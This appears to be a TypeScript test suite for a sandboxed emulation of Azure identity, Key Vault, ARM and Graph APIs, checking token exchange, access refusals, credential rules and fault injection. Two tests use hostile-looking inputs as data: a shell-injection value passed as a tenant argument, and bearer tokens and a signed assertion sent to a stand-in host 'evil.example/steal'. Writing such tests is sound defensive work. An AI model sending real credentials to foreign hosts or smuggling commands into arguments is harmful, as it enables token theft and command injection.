import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { sign } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import type { IncomingMessage } from 'node:http';
import { request as httpsRequest } from 'node:https';
import type { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { TestContext } from 'node:test';
import { connect } from 'node:tls';
import { promisify } from 'node:util';
import { createAuthority } from '../certificates.ts';
import type { AzureScenario, FederatedCredentialState, VaultState } from '../scenario.ts';
import { startAzure } from './start.ts';
import type { RunningAzure } from './start.ts';
import { rsaKey } from './tokens.ts';

const tenant = '11111111-1111-4111-8111-111111111111';
const otherTenant = '12121212-1212-4212-8212-121212121212';
const clientId = '22222222-2222-4222-8222-222222222222';
const subscription = '33333333-3333-4333-8333-333333333333';
const principalId = '44444444-4444-4444-8444-444444444444';
const issuer = 'https://westeurope.oic.prod-aks.azure.com/t/c/';
const identityPath = `/subscriptions/${subscription}/resourceGroups/rg-shop/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-orders`;
const vaultPath = `/subscriptions/${subscription}/resourceGroups/rg-shop/providers/Microsoft.KeyVault/vaults/kv-shop`;
const arm = 'management.azure.com';
const cluster = rsaKey();

function credential(name: string, subject = `system:serviceaccount:shop:${name}`): FederatedCredentialState {
  return { name, issuer, subject, audiences: ['api://AzureADTokenExchange'] };
}

const flexible: FederatedCredentialState = { name: 'flexible', issuer, audiences: ['api://AzureADTokenExchange'], claimsMatchingExpression: { value: "claims['sub'] matches 'system:*'", languageVersion: 1 } };
const vault: VaultState = {
  name: 'kv-shop',
  subscriptionId: subscription,
  resourceGroup: 'rg-shop',
  tenantId: tenant,
  permissionModel: 'rbac',
  roleAssignments: [{ principalId, role: 'Key Vault Secrets User' }],
  secrets: { 'db-password': { value: 'hunter2' }, old: { value: 'x', enabled: false }, stale: { value: 'y', expires: '2020-01-01T00:00:00Z' } },
};
const scenario: AzureScenario = {
  identities: [{ name: 'id-orders', subscriptionId: subscription, resourceGroup: 'rg-shop', tenantId: tenant, clientId, principalId, federatedCredentials: [credential('orders'), flexible] }],
  applications: [{ displayName: 'app', tenantId: tenant, appId: '66666666-6666-4666-8666-666666666666', objectId: '77777777-7777-4777-8777-777777777777', federatedCredentials: [credential('orders')] }],
  vaults: [vault],
};

interface Seen {
  readonly status: number;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

async function start(t: TestContext, initial: AzureScenario = scenario): Promise<RunningAzure> {
  const directory = mkdtempSync(join(tmpdir(), 'wi-azure-'));
  const azure = await startAzure({ scenario: initial, authority: createAuthority('Sandbox CA'), clusterIssuers: [{ issuer, keys: () => cluster.keys }], directory });
  t.after(async () => {
    await azure.close();
    rmSync(directory, { recursive: true, force: true });
  });
  return azure;
}

/** One request through the proxy, each on its own tunnel; rejects as Node does. */
async function send(azure: RunningAzure, method: string, url: string, options: { token?: string; body?: string; headers?: Record<string, string> } = {}): Promise<Seen> {
  const { hostname, pathname, search } = new URL(url);
  const proxy = new URL(azure.proxyUrl);
  const dial = httpRequest({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: `${hostname}:443` }).end();
  const [response, socket] = (await once(dial, 'connect')) as [IncomingMessage, Socket];
  if (response.statusCode !== 200) {
    socket.destroy();
    return { status: response.statusCode ?? 0, headers: response.headers, body: '' };
  }
  const createConnection = (): Socket => connect({ socket, servername: hostname, ca: readFileSync(azure.caFile) });
  const authorization = options.token === undefined ? {} : { authorization: `Bearer ${options.token}` };
  const request = httpsRequest({ host: hostname, method, path: pathname + search, headers: { ...authorization, ...options.headers }, createConnection });
  request.end(options.body);
  const [answer] = (await once(request, 'response')) as [IncomingMessage];
  const chunks: Buffer[] = [];
  for await (const chunk of answer as AsyncIterable<Buffer>) chunks.push(chunk);
  return { status: answer.statusCode ?? 0, headers: answer.headers, body: Buffer.concat(chunks).toString() };
}

async function az(azure: RunningAzure, ...args: string[]): Promise<{ stdout: string; stderr: string }> {
  return promisify(execFile)(join(azure.env['PATH'] ?? '', 'az'), args, { env: azure.env });
}

async function operatorToken(azure: RunningAzure, resource = `https://${arm}`): Promise<string> {
  const { stdout } = await az(azure, 'account', 'get-access-token', '--output', 'json', '--resource', resource);
  return (JSON.parse(stdout) as { accessToken: string }).accessToken;
}

function assertion(subject = 'system:serviceaccount:shop:orders'): string {
  const now = Math.floor(Date.now() / 1000);
  const claims = { iss: issuer, sub: subject, aud: ['api://AzureADTokenExchange'], iat: now, nbf: now, exp: now + 600 };
  const signed = [{ alg: 'RS256', kid: cluster.kid }, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
  return `${signed}.${sign('sha256', Buffer.from(signed), cluster.privateKey).toString('base64url')}`;
}

async function workloadToken(azure: RunningAzure, resource = 'https://vault.azure.net'): Promise<string> {
  const body = new URLSearchParams({
    client_id: clientId,
    scope: `${resource}/.default`,
    grant_type: 'client_credentials',
    client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
    client_assertion: assertion(),
  }).toString();
  const seen = await send(azure, 'POST', `https://login.microsoftonline.com/${tenant}/oauth2/v2.0/token`, { body });
  assert.equal(seen.status, 200, seen.body);
  return (JSON.parse(seen.body) as { access_token: string }).access_token;
}

function errorOf(seen: Seen): string {
  const { error } = JSON.parse(seen.body) as { error: { code: string; innererror?: { code: string } } };
  return `${seen.status} ${error.innererror?.code ?? error.code}`;
}

test('an Entra refusal carries its number, ids and a Date header', async (t) => {
  const azure = await start(t);
  const seen = await send(azure, 'POST', `https://login.microsoftonline.com/${tenant}/oauth2/v2.0/token`, { body: `client_id=x&scope=a&grant_type=client_credentials` });
  const body = JSON.parse(seen.body) as Record<string, unknown>;
  assert.deepEqual(body['error_codes'], [700016]);
  assert.match(String(body['error_description']), /^AADSTS700016: .* Trace ID: \S+ Correlation ID: \S+ Timestamp: \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ$/);
  assert.ok(seen.headers.date);
});

test('an identity of one cloud does not exist in the others', async (t) => {
  const azure = await start(t);
  const seen = await send(azure, 'POST', `https://login.microsoftonline.us/${tenant}/oauth2/v2.0/token`, { body: `client_id=${clientId}&scope=a&grant_type=client_credentials` });
  assert.deepEqual((JSON.parse(seen.body) as Record<string, unknown>)['error_codes'], [90002]);
});

test('a workload reads its secret, and learns whether a secret is missing, disabled or expired', async (t) => {
  const azure = await start(t);
  const token = await workloadToken(azure);
  const read = (name: string): Promise<Seen> => send(azure, 'GET', `https://kv-shop.vault.azure.net/secrets/${name}/?api%2Dversion=2026-04-01`, { token });
  const secret = JSON.parse((await read('db-password')).body) as { value: string; id: string };
  assert.equal(secret.value, 'hunter2');
  assert.match(secret.id, /^https:\/\/kv-shop\.vault\.azure\.net\/secrets\/db-password\/[0-9a-f]{32}$/);
  assert.equal(errorOf(await read('missing')), '404 SecretNotFound');
  assert.equal(errorOf(await read('old')), '403 SecretDisabled');
  assert.equal((JSON.parse((await read('stale')).body) as { attributes: { exp: number } }).attributes.exp, 1577836800);
});

test('a vault judges the token, then the network, then the right', async (t) => {
  const azure = await start(t);
  const url = 'https://kv-shop.vault.azure.net/secrets/db-password';
  const withVault = (change: Partial<VaultState>): void => azure.setScenario({ ...scenario, vaults: [{ ...vault, ...change }] });
  const challenge = await send(azure, 'GET', url);
  assert.match(challenge.body, /AKV10000/);
  assert.equal(challenge.headers['www-authenticate'], `Bearer authorization="https://login.windows.net/${tenant}", resource="https://vault.azure.net"`);
  assert.match((await send(azure, 'GET', url, { token: await workloadToken(azure, `https://${arm}`) })).body, /AKV10022: Invalid audience\. Expected https:\/\/vault\.azure\.net, found: https:\/\/management\.azure\.com\./);
  const token = await workloadToken(azure);
  withVault({ tenantId: otherTenant });
  assert.match((await send(azure, 'GET', url, { token })).body, new RegExp(`AKV10032: .*${otherTenant}.*found https://sts\\.windows\\.net/${tenant}/\\.`));
  const denied: readonly (readonly [string, Partial<VaultState>])[] = [
    ['403 ForbiddenByFirewall', { network: 'selected', roleAssignments: [] }],
    ['403 ForbiddenByConnection', { network: 'private', roleAssignments: [] }],
    ['403 ForbiddenByRbac', { roleAssignments: [] }],
    ['403 ForbiddenByRbac', { roleAssignments: [{ principalId, role: 'Key Vault Reader' }] }],
    ['403 ForbiddenByRbac', { roleAssignments: [{ principalId: clientId, role: 'Key Vault Secrets User' }] }],
    ['403 AccessDenied', { permissionModel: 'access-policy' }],
  ];
  for (const [expected, change] of denied) {
    withVault(change);
    assert.equal(errorOf(await send(azure, 'GET', url, { token })), expected);
  }
  withVault({ permissionModel: 'access-policy', accessPolicies: [{ objectId: principalId, secrets: ['Get'] }] });
  assert.equal((await send(azure, 'GET', url, { token })).status, 200);
});

test('a vault nobody has does not resolve, and the proxy says so', async (t) => {
  const azure = await start(t);
  const seen = await send(azure, 'GET', 'https://kv-typo.vault.azure.net/secrets/a');
  assert.equal(seen.status, 502);
  assert.equal(seen.headers['proxy-status'], 'sandbox; error=dns_error; rcode="NXDOMAIN"');
  assert.deepEqual(azure.requests.at(-1), { method: 'CONNECT', host: 'kv-typo.vault.azure.net', path: '', status: 502, sawBearer: false, token: 'none' });
});

test('an issuer publishes its discovery document and keys under its real address', async (t) => {
  const azure = await start(t);
  const discovery = JSON.parse((await send(azure, 'GET', `${issuer}.well-known/openid-configuration`)).body) as { issuer: string; jwks_uri: string };
  assert.equal(discovery.issuer, issuer);
  const keys = JSON.parse((await send(azure, 'GET', discovery.jwks_uri)).body) as { keys: { kid: string }[] };
  assert.deepEqual(keys.keys.map(({ kid }) => kid), [cluster.kid]);
  assert.equal((await send(azure, 'GET', `${issuer}other`)).status, 404);
  azure.setScenario({ ...scenario, issuers: [{ issuer, serves: 'nothing' }] });
  assert.equal((await send(azure, 'GET', discovery.jwks_uri)).headers['proxy-status'], 'sandbox; error=connection_refused');
});

test('ARM shows expressions only to versions that know them, and pages its lists', async (t) => {
  const many = Array.from({ length: 12 }, (_, index) => credential(`fic-${index}`));
  const azure = await start(t, { ...scenario, identities: scenario.identities?.map((identity) => ({ ...identity, federatedCredentials: [flexible, ...many] })) ?? [] });
  const token = await operatorToken(azure);
  const list = `https://${arm}${identityPath}/federatedIdentityCredentials`;
  const first = JSON.parse((await send(azure, 'GET', `${list}?api-version=2024-11-30`, { token })).body) as { value: { properties: object }[]; nextLink: string };
  assert.deepEqual(Object.keys(first.value[0]?.properties ?? {}), ['issuer', 'audiences']);
  const raw = JSON.parse((await send(azure, 'GET', `${list}/flexible?api-version=2026-05-31`, { token })).body) as { properties: { claimsMatchingExpression: unknown } };
  assert.deepEqual(raw.properties.claimsMatchingExpression, flexible.claimsMatchingExpression);
  let [count, next]: [number, string | undefined] = [first.value.length, first.nextLink];
  while (next !== undefined) {
    const page = JSON.parse((await send(azure, 'GET', next, { token })).body) as { value: unknown[]; nextLink?: string };
    [count, next] = [count + page.value.length, page.nextLink];
  }
  assert.equal(count, 13);
});

test('ARM refuses what Azure refuses when credentials are written', async (t) => {
  const azure = await start(t);
  const token = await operatorToken(azure);
  const put = (name: string, subject: string, audiences = ['api://AzureADTokenExchange']): Promise<Seen> =>
    send(azure, 'PUT', `https://${arm}${identityPath}/federatedIdentityCredentials/${name}?api-version=2024-11-30`, { token, body: JSON.stringify({ properties: { issuer, subject, audiences } }) });
  assert.equal((await put('fic-new', 'system:serviceaccount:shop:new')).status, 201);
  assert.equal((await put('fic-new', 'system:serviceaccount:shop:newer')).status, 200);
  assert.match((await put('fic-twin', 'system:serviceaccount:shop:orders')).body, /Issuer and subject combination already exists/);
  assert.match((await put('fic-two', 'a', ['x', 'y'])).body, /exactly 1 audience/);
  assert.match((await put('a%20b', 'a')).body, /name 'a b' is invalid/);
  const together = await Promise.all([put('fic-a', 'a'), put('fic-b', 'b')]);
  assert.deepEqual(together.map(({ status }) => status).sort(), [201, 409]);
  for (let index = 4; index < 21; index += 1) await put(`fic-${index}`, `s${index}`);
  assert.match((await put('fic-over', 'over')).body, /at most 20/);
  const remove = (): Promise<Seen> => send(azure, 'DELETE', `https://${arm}${identityPath}/federatedIdentityCredentials/fic-new?api-version=2024-11-30`, { token });
  assert.deepEqual([(await remove()).status, (await remove()).status], [200, 204]);
});

test('ARM creates an identity once, where its resource group is there, and refuses to move it', async (t) => {
  const azure = await start(t);
  const token = await operatorToken(azure);
  const url = (name: string, group = 'rg-shop'): string => `https://${arm}/subscriptions/${subscription}/resourceGroups/${group}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/${name}?api-version=2024-11-30`;
  const put = (name: string, body: object, group?: string): Promise<Seen> => send(azure, 'PUT', url(name, group), { token, body: JSON.stringify(body) });
  const made = await put('id-new', { location: 'northeurope', tags: { team: 'shop' } });
  const { properties } = JSON.parse(made.body) as { properties: { clientId: string; principalId: string } };
  assert.deepEqual([made.status, (await put('ID-NEW', { location: 'northeurope' })).status], [201, 200]);
  const read = JSON.parse((await send(azure, 'GET', url('id-new'), { token })).body) as { properties: object; tags: object };
  assert.deepEqual([read.properties, read.tags], [{ ...properties, tenantId: tenant, isolationScope: 'None' }, {}], 'a PUT takes the tags away');
  assert.equal(errorOf(await put('id-new', { location: 'westeurope' })), '409 InvalidResourceLocation');
  assert.equal(errorOf(await put('id-other', {})), '400 LocationRequired');
  assert.equal(errorOf(await put('id-other', { location: 'westeurope' }, 'rg-none')), '404 ResourceGroupNotFound');
  assert.equal(errorOf(await send(azure, 'GET', `https://${arm}/subscriptions/${subscription}/resourceGroups/rg-none?api-version=2021-04-01`, { token })), '404 ResourceGroupNotFound');
  assert.match((await send(azure, 'GET', `https://${arm}/subscriptions/${subscription}/resourceGroups/rg-shop?api-version=2021-04-01`, { token })).body, /"location":"westeurope"/);
});

test('a role assignment written through ARM opens the vault', async (t) => {
  const azure = await start(t, { ...scenario, vaults: [{ ...vault, roleAssignments: [] }] });
  const token = await operatorToken(azure);
  const assignments = `https://${arm}${vaultPath}/providers/Microsoft.Authorization/roleAssignments`;
  const read = async (): Promise<number> => (await send(azure, 'GET', 'https://kv-shop.vault.azure.net/secrets/db-password', { token: await workloadToken(azure) })).status;
  assert.equal(await read(), 403);
  const body = JSON.stringify({ properties: { principalId, principalType: 'ServicePrincipal', roleDefinitionId: `/subscriptions/${subscription}/providers/Microsoft.Authorization/roleDefinitions/4633458b-17de-408a-b874-0445c86b69e6` } });
  const name = '88888888-8888-4888-8888-888888888888';
  assert.equal((await send(azure, 'PUT', `${assignments}/${name}?api-version=2022-04-01`, { token, body })).status, 201);
  assert.equal(errorOf(await send(azure, 'PUT', `${assignments}/99999999-9999-4999-8999-999999999999?api-version=2022-04-01`, { token, body })), '409 RoleAssignmentExists');
  assert.equal(await read(), 200);
  const listed = JSON.parse((await send(azure, 'GET', `${assignments}?api-version=2022-04-01&$filter=principalId%20eq%20'${principalId}'`, { token })).body) as { value: { name: string }[] };
  assert.deepEqual(listed.value.map((item) => item.name), [name]);
});

test('Resource Graph finds an identity by client id and a vault by name, and gives no rows without the right', async (t) => {
  const azure = await start(t);
  const ask = async (query: string): Promise<unknown> => {
    const token = await operatorToken(azure);
    const seen = await send(azure, 'POST', `https://${arm}/providers/Microsoft.ResourceGraph/resources?api-version=2024-04-01`, { token, body: JSON.stringify({ query }) });
    return (JSON.parse(seen.body) as { data: unknown }).data;
  };
  const byClientId = `resources | where type =~ 'microsoft.managedidentity/userassignedidentities' | where tostring(properties.clientId) =~ '${clientId.toUpperCase()}' | project id, clientId=tostring(properties.clientId)`;
  assert.deepEqual(await ask(byClientId), [{ id: identityPath.replace('resourceGroups', 'resourcegroups'), clientId }]);
  assert.deepEqual(await ask(`resources | where type =~ 'microsoft.keyvault/vaults' and name =~ 'KV-shop' | project name, properties.enableRbacAuthorization`), [{ name: 'kv-shop', 'properties.enableRbacAuthorization': true }]);
  assert.deepEqual(await ask(`resources | where type =~ 'microsoft.keyvault/vaults' and name =~ 'other'`), []);
  azure.setScenario({ ...scenario, operator: { tenantId: tenant, may: ['arm-identities'] } });
  assert.deepEqual(await ask(byClientId), []);
});

test('an operator without a right is refused by ARM and Graph in their own words', async (t) => {
  const azure = await start(t, { ...scenario, operator: { tenantId: tenant, may: ['arm-identities'] } });
  const token = await operatorToken(azure);
  assert.equal((await send(azure, 'GET', `https://${arm}${identityPath}?api-version=2024-11-30`, { token })).status, 200);
  assert.equal(errorOf(await send(azure, 'GET', `https://${arm}${identityPath}/federatedIdentityCredentials?api-version=2024-11-30`, { token })), '403 AuthorizationFailed');
  assert.equal(errorOf(await send(azure, 'GET', `https://${arm}${vaultPath}?api-version=2023-07-01`, { token })), '403 AuthorizationFailed');
  const graph = await operatorToken(azure, 'https://graph.microsoft.com');
  assert.equal(errorOf(await send(azure, 'GET', `https://graph.microsoft.com/v1.0/servicePrincipals(appId='${clientId}')`, { token: graph })), '403 Authorization_RequestDenied');
  assert.equal(errorOf(await send(azure, 'GET', `https://${arm}/subscriptions?api-version=2022-12-01`)), '401 AuthenticationFailed');
});

test('Graph names a managed identity by its ARM id, and an application has no service principal unless it was made', async (t) => {
  const azure = await start(t);
  const token = await operatorToken(azure, 'https://graph.microsoft.com');
  const get = (path: string): Promise<Seen> => send(azure, 'GET', `https://graph.microsoft.com/v1.0/${path}`, { token });
  const principal = JSON.parse((await get(`servicePrincipals(appId='${clientId}')`)).body) as { alternativeNames: string[] };
  assert.deepEqual(principal.alternativeNames, ['isExplicit=True', identityPath.replace('resourceGroups', 'resourcegroups')]);
  const appId = '66666666-6666-4666-8666-666666666666';
  assert.equal(errorOf(await get(`servicePrincipals(appId='${appId}')`)), '404 Request_ResourceNotFound');
  const credentials = JSON.parse((await get(`applications(appId='${appId}')/federatedIdentityCredentials`)).body) as { value: { name: string }[] };
  assert.deepEqual(credentials.value.map(({ name }) => name), ['orders']);
});

test('Graph creates, changes and deletes the credentials of an application by its rules', async (t) => {
  const azure = await start(t);
  const token = await operatorToken(azure, 'https://graph.microsoft.com');
  const appId = '66666666-6666-4666-8666-666666666666';
  const { id } = JSON.parse((await send(azure, 'GET', `https://graph.microsoft.com/v1.0/applications(appId='${appId}')`, { token })).body) as { id: string };
  const call = (method: string, name: string, body?: object): Promise<Seen> =>
    send(azure, method, `https://graph.microsoft.com/v1.0/applications/${id}/federatedIdentityCredentials${name}`, { token, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });
  const values = { issuer, subject: 'system:serviceaccount:shop:new', audiences: ['api://AzureADTokenExchange'] };
  assert.equal(errorOf(await call('PATCH', '/fic-new', values)), '404 Request_ResourceNotFound');
  assert.equal((await call('POST', '', { name: 'fic-new', ...values })).status, 201);
  assert.equal(errorOf(await call('POST', '', { name: 'fic-new', ...values })), '409 Request_MultipleObjectsWithSameKeyValue');
  assert.equal(errorOf(await call('POST', '', { name: 'fic-twin', ...values })), '400 InvalidFederatedIdentityCredentialValue');
  assert.equal((await call('PATCH', '/fic-new', { subject: 'system:serviceaccount:shop:newer' })).status, 204);
  assert.match((await call('GET', '/fic-new')).body, /"issuer":"[^"]+","subject":"system:serviceaccount:shop:newer"/);
  assert.equal(errorOf(await call('PATCH', '/fic-new', { name: 'fic-other' })), '400 Request_BadRequest');
  assert.deepEqual([(await call('DELETE', '/fic-new')).status, errorOf(await call('DELETE', '/fic-new'))], [204, '404 Request_ResourceNotFound']);
  azure.setScenario({ ...scenario, operator: { tenantId: tenant, may: ['graph'], readOnly: ['graph'] } });
  assert.equal(errorOf(await call('POST', '', { name: 'fic-new', ...values })), '403 Authorization_RequestDenied');
});

test('Graph makes the service principal of an application once, and switches it', async (t) => {
  const azure = await start(t);
  const token = await operatorToken(azure, 'https://graph.microsoft.com');
  const appId = '66666666-6666-4666-8666-666666666666';
  const call = (method: string, path: string, body?: object): Promise<Seen> => send(azure, method, `https://graph.microsoft.com/v1.0/servicePrincipals${path}`, { token, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });
  assert.equal(errorOf(await call('POST', '', { appId: '12121212-1212-4121-8121-121212121212' })), '400 Request_BadRequest');
  const made = await call('POST', '', { appId, accountEnabled: true });
  const { id } = JSON.parse(made.body) as { id: string };
  assert.deepEqual([made.status, errorOf(await call('POST', '', { appId }))], [201, '409 Request_MultipleObjectsWithSameKeyValue']);
  assert.equal((await call('PATCH', `/${id}`, { accountEnabled: false })).status, 204);
  assert.match((await call('GET', `(appId='${appId}')`)).body, /"accountEnabled":false/);
  azure.setScenario({ ...scenario, operator: { tenantId: tenant, may: ['graph'], readOnly: ['graph'] } });
  assert.equal(errorOf(await call('POST', '', { appId })), '403 Authorization_RequestDenied');
});

test('an officer enables a secret and recovers a deleted one, which are not given away by that; a reader may do neither', async (t) => {
  const deletedSecrets = { gone: { value: 'hunter3' } };
  const azure = await start(t, { ...scenario, vaults: [{ ...vault, deletedSecrets }] });
  const token = await workloadToken(azure);
  const call = (method: string, path: string, body?: object): Promise<Seen> => send(azure, method, `https://kv-shop.vault.azure.net/${path}?api-version=7.5`, { token, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });
  const enable = (): Promise<Seen> => call('PATCH', 'secrets/old/', { attributes: { enabled: true } });
  const recover = (name = 'gone'): Promise<Seen> => call('POST', `deletedsecrets/${name}/recover`);
  assert.deepEqual([errorOf(await enable()), errorOf(await recover())], ['403 ForbiddenByRbac', '403 ForbiddenByRbac']);
  azure.setScenario({ ...scenario, vaults: [{ ...vault, deletedSecrets, roleAssignments: [...(vault.roleAssignments ?? []), { principalId, role: 'Key Vault Secrets Officer' }] }] });
  const reads = async (): Promise<readonly number[]> => [(await call('GET', 'secrets/old/')).status, (await call('GET', 'secrets/gone/')).status];
  assert.deepEqual(await reads(), [403, 404]);
  for (const { status, body } of [await enable(), await recover()]) assert.deepEqual([status, 'value' in (JSON.parse(body) as object)], [200, false], body);
  assert.deepEqual(await reads(), [200, 200]);
  assert.equal(errorOf(await recover('other')), '404 SecretNotFound');
});

test('the list of resources has the vaults of a subscription, for who may read them', async (t) => {
  const azure = await start(t);
  const url = `https://${arm}/subscriptions/${subscription}/resources?api-version=2015-11-01&$filter=${encodeURIComponent("resourceType eq 'Microsoft.KeyVault/vaults' and name eq 'kv-shop'")}`;
  const idsOf = async (): Promise<readonly string[]> => (JSON.parse((await send(azure, 'GET', url, { token: await operatorToken(azure) })).body) as { value: { id: string }[] }).value.map(({ id }) => id);
  assert.deepEqual(await idsOf(), [vaultPath]);
  azure.setScenario({ ...scenario, operator: { tenantId: tenant, may: ['arm-identities'] } });
  assert.deepEqual(await idsOf(), []);
});

test('the fake az speaks for its own tenant only, and is not there without an operator', async (t) => {
  const azure = await start(t, { ...scenario, operator: { tenantId: otherTenant, may: [] } });
  const token = (...more: string[]): Promise<{ stdout: string }> => az(azure, 'account', 'get-access-token', '--output', 'json', '--resource', 'https://vault.azure.net', ...more);
  const given = JSON.parse((await token('--tenant', otherTenant)).stdout) as { tenant: string; expires_on: number };
  assert.equal(given.tenant, otherTenant);
  assert.ok(given.expires_on > Date.now() / 1000);
  await assert.rejects(token('--tenant', tenant), /AADSTS50020/);
  await assert.rejects(token('--tenant', '99999999-9999-4999-8999-999999999999'), /AADSTS90002/);
  await assert.rejects(token('--tenant', '"; touch /tmp/x; "'), /invalid argument/);
  assert.equal((JSON.parse((await az(azure, 'account', 'show')).stdout) as { tenantId: string }).tenantId, otherTenant);
  azure.setScenario({ ...scenario, operator: 'none' });
  assert.deepEqual(readdirSync(azure.env['PATH'] ?? ''), []);
});

test('no token lies in any file of the directory', async (t) => {
  const azure = await start(t);
  await operatorToken(azure);
  const directory = join(azure.caFile, '..');
  for (const entry of readdirSync(directory, { recursive: true, withFileTypes: true })) {
    if (entry.isFile()) assert.doesNotMatch(readFileSync(join(entry.parentPath, entry.name), 'utf8'), /eyJ[\w-]+\.eyJ/);
  }
  assert.ok(existsSync(azure.caFile));
});

test('a foreign host answers 404 and its record says which kind of token it was shown, never the token', async (t) => {
  const azure = await start(t);
  const token = await workloadToken(azure);
  assert.equal((await send(azure, 'GET', 'https://evil.example/steal', { token })).status, 404);
  await send(azure, 'POST', 'https://evil.example/token', { body: `client_assertion=${assertion()}` });
  await send(azure, 'GET', 'https://evil.example/', { headers: { 'x-token': await operatorToken(azure) } });
  const seen = azure.requests.filter(({ host }) => host === 'evil.example').map(({ sawBearer, token: kind }) => [sawBearer, kind]);
  assert.deepEqual(seen, [[true, 'workload'], [false, 'assertion'], [false, 'operator']]);
  assert.doesNotMatch(JSON.stringify(azure.requests), /eyJ/);
});

test('faults hit the requests they match, as often as they say, in order', async (t) => {
  const azure = await start(t);
  const url = 'https://kv-shop.vault.azure.net/secrets/db-password';
  const token = await workloadToken(azure);
  azure.setScenario({
    ...scenario,
    faults: [
      { match: 'GET kv-shop.vault.azure.net/*', times: 1, act: { answer: 429, headers: { 'retry-after': '1' }, body: '{"error":{"code":"Throttled","message":"slow down"}}' } },
      { match: 'GET *.vault.azure.net/secrets', times: 1, act: 'reset' },
      { match: 'GET kv-shop.vault.azure.net', times: 1, act: 'stall' },
      { match: 'GET kv-shop.vault.azure.net', times: 1, act: { delayMs: 60 } },
      { match: 'POST login.microsoftonline.com', act: 'hang' },
    ],
  });
  const throttled = await send(azure, 'GET', url, { token });
  assert.equal(throttled.headers['retry-after'], '1');
  assert.equal(errorOf(throttled), '429 Throttled');
  await assert.rejects(send(azure, 'GET', url, { token }), { code: 'ECONNRESET' });
  const stalled = send(azure, 'GET', url, { token });
  const hung = send(azure, 'POST', `https://login.microsoftonline.com/${tenant}/oauth2/v2.0/token`);
  const silence = new Promise((resolve) => setTimeout(resolve, 100, 'silence'));
  assert.equal(await Promise.race([stalled, hung, silence]), 'silence');
  const started = performance.now();
  assert.equal((await send(azure, 'GET', url, { token })).status, 200);
  assert.ok(performance.now() - started >= 59);
  await azure.close();
  await assert.rejects(stalled);
  await assert.rejects(hung);
});
